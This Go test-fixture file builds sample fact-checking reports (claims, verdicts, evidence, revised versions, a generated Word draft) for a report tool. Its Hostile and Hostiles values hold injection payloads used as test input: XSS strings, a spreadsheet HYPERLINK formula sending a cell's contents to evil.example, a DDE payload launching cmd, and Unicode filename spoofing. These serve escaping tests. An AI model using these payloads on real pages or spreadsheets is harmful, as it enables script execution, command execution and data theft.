// Package sample has reports, and words to put into them, that the tests of the rooms write.
package sample

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"fmt"
	"image"
	"image/png"
	"strings"
	"testing"

	"galley/model"
	"galley/model/passage"
	"galley/model/prose"
	"galley/model/report/view"
)

// Content is a report of a text in paragraphs with a claim at each quotation.
func Content(t testing.TB, text string, quotes ...string) view.Content {
	t.Helper()
	c := view.Content{
		Article:   model.Article{ID: "a1", Title: "Talks at The Hague", Publisher: "The Paper", Published: "2009-03-31"},
		Version:   model.Version{ID: "v1", ArticleID: "a1", Number: 1, Text: text, SHA256: passage.Hash(text)},
		Scales:    model.BuiltInScales(),
		Editor:    "Ann",
		Made:      "2026-11-23T10:00:00.000Z",
		Generator: "Galley 0.1.0",
	}
	at := 0
	for _, p := range strings.Split(text, model.BlockSeparator) {
		c.Version.Blocks = append(c.Version.Blocks, model.Block{Kind: model.Paragraph, Start: at, End: at + len(p)})
		at += len(p) + len(model.BlockSeparator)
	}
	for i, q := range quotes {
		spans := passage.Occurrences(text, q)
		if len(spans) != 1 {
			t.Fatalf("%q stands %d times", q, len(spans))
		}
		c.Dossiers = append(c.Dossiers, Dossier(c.Version, i, spans[0]))
	}
	return c
}

// Dossier is a claim at a place of a version, the i-th.
func Dossier(v model.Version, i int, span passage.Span) model.Dossier {
	id := fmt.Sprint("c", i)
	quote := passage.Select(v.Text, span)
	return model.Dossier{
		Claim: model.Claim{ID: id, Wording: quote.Exact, Status: model.Unchecked},
		Appearances: []model.Appearance{{
			ID: "p" + id, ClaimID: id, ArticleID: v.ArticleID, VersionID: v.ID, Start: span.Start, End: span.End,
			Exact: quote.Exact, Prefix: quote.Prefix, Suffix: quote.Suffix, State: model.Anchored,
		}},
		Scale: model.BuiltInScales()[0],
	}
}

// Rate gives a claim a verdict, by Ann on 20 November 2026.
func Rate(d *model.Dossier, rating, reasoning string) {
	d.Verdicts = append(d.Verdicts, model.Verdict{
		ID: fmt.Sprint("v", len(d.Verdicts)), ClaimID: d.Claim.ID, ScaleID: d.Scale.ID, Rating: rating, Reasoning: reasoning, By: "Ann",
		At: "2026-11-20T10:00:00.000Z",
	})
	d.Claim.Status = model.Checked
}

// Statuses is an article with a signed claim, a rated one and one not looked at.
func Statuses(t testing.TB) view.Content {
	c := Content(t, "Some 600 miles of border. Then 21,000 troops. And 80 envoys.", "600 miles", "21,000 troops", "80 envoys")
	Rate(&c.Dossiers[0], "True", "On the map.")
	c.Dossiers[0].Verdicts[0].SignedBy, c.Dossiers[0].Verdicts[0].SignedAt = "Bob", "2026-11-21T10:00:00.000Z"
	c.Dossiers[0].Claim.Status = model.SignedOff
	Rate(&c.Dossiers[1], "False", "It was 17,000.")
	return c
}

// Full is a report with something in every field.
func Full(t testing.TB) view.Content {
	c := Content(t, "Café 🤝 talks\n\nNearly 600 miles – “so he said”.\n\nNot rated: 21,000.", "600 miles – “so he said”", "21,000")
	d := &c.Dossiers[0]
	d.Claim.Speaker, d.Claim.Said, d.Claim.Kind, d.Claim.Owner, d.Claim.Due = "Akhundzadeh", "2009-03", model.Statistic, "Ann", "2026-12-01"
	Rate(d, "Unproven", "Not yet.")
	Rate(d, "Mostly true", "Measured.")
	d.Verdicts[1].SignedBy, d.Verdicts[1].SignedAt = "Bob", "2026-11-22T09:00:00.000Z"
	d.Claim.Status = model.SignedOff
	hash := "00ff"
	d.Evidence = []model.Exhibit{{
		Evidence: model.Evidence{ID: "e", SourceID: "s", Stance: model.Refutes, Quote: "936 km", Locator: "p. 4", Note: "land border"},
		Source:   model.Source{ID: "s", Title: "Atlas", Reliability: model.Mixed, Primary: true},
		Files: []model.Held{{Attachment: model.Attachment{ID: model.AttachmentID("s", hash), SourceID: "s", FileHash: hash, Name: "atlas.pdf", By: "Ann",
			Added: "2026-11-20T09:00:00.000Z"}, MediaType: "application/pdf", Size: 6}},
	}}
	d.Appearances = append(d.Appearances, model.Appearance{ID: "other", ClaimID: d.Claim.ID, ArticleID: "a2", VersionID: "v9", Start: 3,
		End: 5, State: model.Anchored})
	c.Version.Hidden = []int{0}
	c.Version.Blocks[0].Kind, c.Version.Blocks[0].Level = model.Heading, 1
	c.Version.LeftOut = []model.LeftOut{{
		Text: "“Größer”\n\n2,100 posts", Blocks: []model.Block{{Kind: model.Heading, Start: 0, End: 14, Level: 2},
			{Kind: model.ListItem, Start: 16, End: 27}},
		Reason: "It is beside the article on the page.", After: 0,
	}}
	at := strings.Index(c.Version.Text, "600 miles")
	c.Version.Notes = []model.Note{
		{Kind: model.CommentNote, Author: "Jane", Time: "2026-11-19T10:00:00Z", Start: at, End: at + len("600 miles"), Text: "Zürich 🤝",
			Addresses: []string{"https://example.org/atlas"}, Resolved: true, Replies: []model.Reply{{Author: "Bob", Text: "No."}}},
		{Kind: model.Footnote, Start: len(c.Version.Text), End: len(c.Version.Text), Text: "Ibid."},
		{Kind: model.CommentNote, Start: -1, End: -1, Part: "header", Text: "Draft"},
	}
	c.Events = []model.Event{{Seq: 1, ID: "ev", At: "2026-11-20T10:00:00.000Z", Editor: "Ann", Action: "mark claim", What: "Marked"}}
	return c
}

// Every is a report in which every sort of annotation is.
func Every(t testing.TB) view.Content {
	c := Full(t)
	c.Article.URL = "https://example.org/talks?a=1&b=2"
	c.Version.Added = "2026-11-19T10:00:00.000Z"
	for i := range c.Dossiers {
		c.Dossiers[i].Claim.Created = "2026-11-20T10:00:00.000Z"
	}
	d := &c.Dossiers[0]
	web := d.Evidence[0]
	web.Evidence.ID, web.Source.ID, web.Source.URL = "e2", "s2", "https://example.org/atlas"
	d.Evidence = append(d.Evidence, web)
	c.Tags = map[string][]string{d.Claim.ID: {"Hague talks"}}
	return c
}

// Revised is an article whose second version has other words for its first
// claim, which was rated before, and no longer has its second one.
func Revised(t testing.TB) view.Content {
	c := Statuses(t)
	c.Version.ID, c.Version.Number = "v2", 2
	for i := range c.Dossiers {
		d := &c.Dossiers[i]
		before := d.Appearances[0]
		now := before
		now.ID, now.VersionID = before.ID+"b", "v2"
		if i == 0 {
			before.Exact, now.State = "580 miles", model.Changed
			d.Claim.Status = model.InProgress
			d.Verdicts[0].ID = "0" // given before the version came
		}
		if i == 1 {
			now.State = model.Orphaned
		}
		d.Appearances = []model.Appearance{before, now}
	}
	c.Dossiers[1].Appearances[0].VersionID, c.Dossiers[0].Appearances[0].VersionID = "v1", "v1"
	return c
}

// Reviewed is a report whose ClaimReview has something in every field.
func Reviewed(t testing.TB) view.Content {
	c := Full(t)
	c.Article.URL, c.Article.Byline = "https://example.org/talks", "J. Doe"
	c.Choices.ReviewURL, c.Choices.Newsroom = "https://check.example/talks", "The Checking Desk"
	c.Dossiers[0].Appearances = append(c.Dossiers[0].Appearances, model.Appearance{ID: "third", ClaimID: "c0", ArticleID: "a3",
		VersionID: "v10"})
	c.Elsewhere = map[string]model.Article{
		"a2": {ID: "a2", Title: "Earlier", URL: "https://other.example/earlier", Published: "2009-03-01"},
		"a3": {ID: "a3", Title: "Without an address"},
	}
	return c
}

// Picture is a logo.
func Picture(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 80, 20))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Gallery are reports that look different from each other, by name.
func Gallery(t testing.TB) map[string]view.Content {
	pages := map[string]view.Content{"bare": Content(t, "Nothing to check here."), "every": Every(t), "hostile": HostileContent(t, Hostile)}
	long := Content(t, strings.Repeat("Nearly 600 miles of border, he said. ", 40)+"\n\nThe end.", "The end")
	long.Article.Title = strings.Repeat("A headline that goes on ", 12) + strings.Repeat("x", 120)
	long.Dossiers[0].Claim.Wording = strings.Repeat("https://example.org/", 20)
	pages["long"] = long
	rtl := Content(t, "אמר השר: 600 ק״מ של גבול.\n\nقال الوزير إن الحدود ٦٠٠ ميل.", "600 ק״מ", "٦٠٠ ميل")
	rtl.Article.Title, rtl.Article.Language = "שיחות בהאג", "he"
	Rate(&rtl.Dossiers[0], "Mixed", "לא בדיוק")
	pages["rtl"] = rtl
	german := Statuses(t)
	german.Choices = view.Choices{Language: "de", Newsroom: "Die Redaktion", Logo: Picture(t), Embed: true}
	pages["german"] = german
	without := Statuses(t)
	without.Choices.Without = []view.Part{view.Cards, view.SourceList, view.Method}
	pages["without"] = without
	var text []string
	scales := model.BuiltInScales()
	for _, s := range scales {
		for _, r := range s.Ratings {
			text = append(text, s.Name+" says "+r.Label+" of it")
		}
	}
	all := Content(t, strings.Join(text, model.BlockSeparator), text...)
	i := 0
	for _, s := range scales {
		for _, r := range s.Ratings {
			all.Dossiers[i].Scale = s
			Rate(&all.Dossiers[i], r.Label, "For a reason.")
			all.Dossiers[i].Evidence = []model.Exhibit{{Evidence: model.Evidence{SourceID: "s", Stance: model.Stances[i%3], Quote: "so"},
				Source: model.Source{ID: "s", Title: "Atlas", URL: "https://example.org/a", Primary: true}}}
			i++
		}
	}
	pages["ratings"] = all
	pages["revised"] = Revised(t)
	return pages
}

// Hostile is text that would like to be markup.
const Hostile = `<script>alert(1)</script><img src=x onerror=alert(2)>"'><b onclick=x>&amp; {{.}} --> ]]> </style> javascript:alert(3)`

// Hostiles are what a field may hold, by name.
var Hostiles = map[string]string{
	"markup":  Hostile,
	"formula": `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	"command": "-2+3+cmd|' /C calc'!A0",
	"second":  "harmless;=HYPERLINK(\"http://evil.example\")",
	"newline": "harmless\n=1+1",
	"full":    "＝1+1",
	"at":      "@SUM(1)",
	"tab":     "\t=1+1",
	"control": "a\x00b\x07c\x1b[31md\x7fe",
	"turned":  "abc\u202egnp.exe\u202c \u2067x",
	"bytes":   "a\xffb\xc3",
	"markdown": "[a](javascript:alert(1)) ![x](http://evil.example/x.png) **b** `c` | d\n# heading\n- item\n1. item\n[^1]: note\n---\n> " +
		"q <http://evil.example>",
	"separator": "a,\"b\";c\td\r\ne\u2028f",
	"noncharac": "a\ufffeb\uffffc",
}

// HostileContent has the text in every field that a person fills.
func HostileContent(t testing.TB, text string) view.Content {
	c := Content(t, "Before the words. "+strings.ToValidUTF8(text, "\ufffd")+" after them.\n\nA claim stands here.", "A claim stands here")
	a := &c.Article
	a.Title, a.Byline, a.Publisher, a.Published, a.URL, a.Language = text, text, text, text, text, text
	d := Dossier(c.Version, 1, c.Version.Blocks[0].Span())
	d.Claim = model.Claim{ID: "c1", Wording: text, Speaker: text, Said: text, Owner: text, Due: text, Status: model.Checked}
	Rate(&d, "False", text)
	d.Verdicts[0].By, d.Verdicts[0].SignedBy, d.Verdicts[0].SignedAt = text, text, "2026-11-22T09:00:00.000Z"
	d.Evidence = []model.Exhibit{{
		Evidence: model.Evidence{ID: "e", SourceID: "s", Stance: model.Refutes, Quote: text, Locator: text, Note: text, Language: "de", Translation: text, Translator: text},
		Source:   model.Source{ID: "s", Title: text, Publisher: text, Author: text, URL: text, Published: text, Accessed: text, ArchiveURL: text},
	}}
	c.Dossiers = append(c.Dossiers, d)
	c.Editor, c.Generator = text, text
	return c
}

// Drafted is a report whose version came from a Word document with the text in it.
func Drafted(t testing.TB, c view.Content) view.Content {
	t.Helper()
	var body strings.Builder
	for p := range strings.SplitSeq(prose.Plain(c.Version.Text), model.BlockSeparator) {
		body.WriteString("<w:p><w:r><w:t xml:space=\"preserve\">")
		if err := xml.EscapeText(&body, []byte(p)); err != nil {
			t.Fatal(err)
		}
		body.WriteString("</w:t></w:r></w:p>")
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, part := range [][2]string{
		{"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ` +
			`ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		{"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ` +
			`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body.String() +
			`</w:body></w:document>`},
	} {
		w, err := z.Create(part[0])
		if err == nil {
			_, err = w.Write([]byte(part[1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	others := c.File
	c.Version.FileHash = passage.Hash(b.String())
	c.File = func(hash string) (model.File, error) {
		if hash != passage.Hash(b.String()) && others != nil {
			return others(hash)
		}
		return model.File{SHA256: hash, Name: "draft.docx", Bytes: b.Bytes(), Size: int64(b.Len()),
			MediaType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document"}, nil
	}
	return c
}
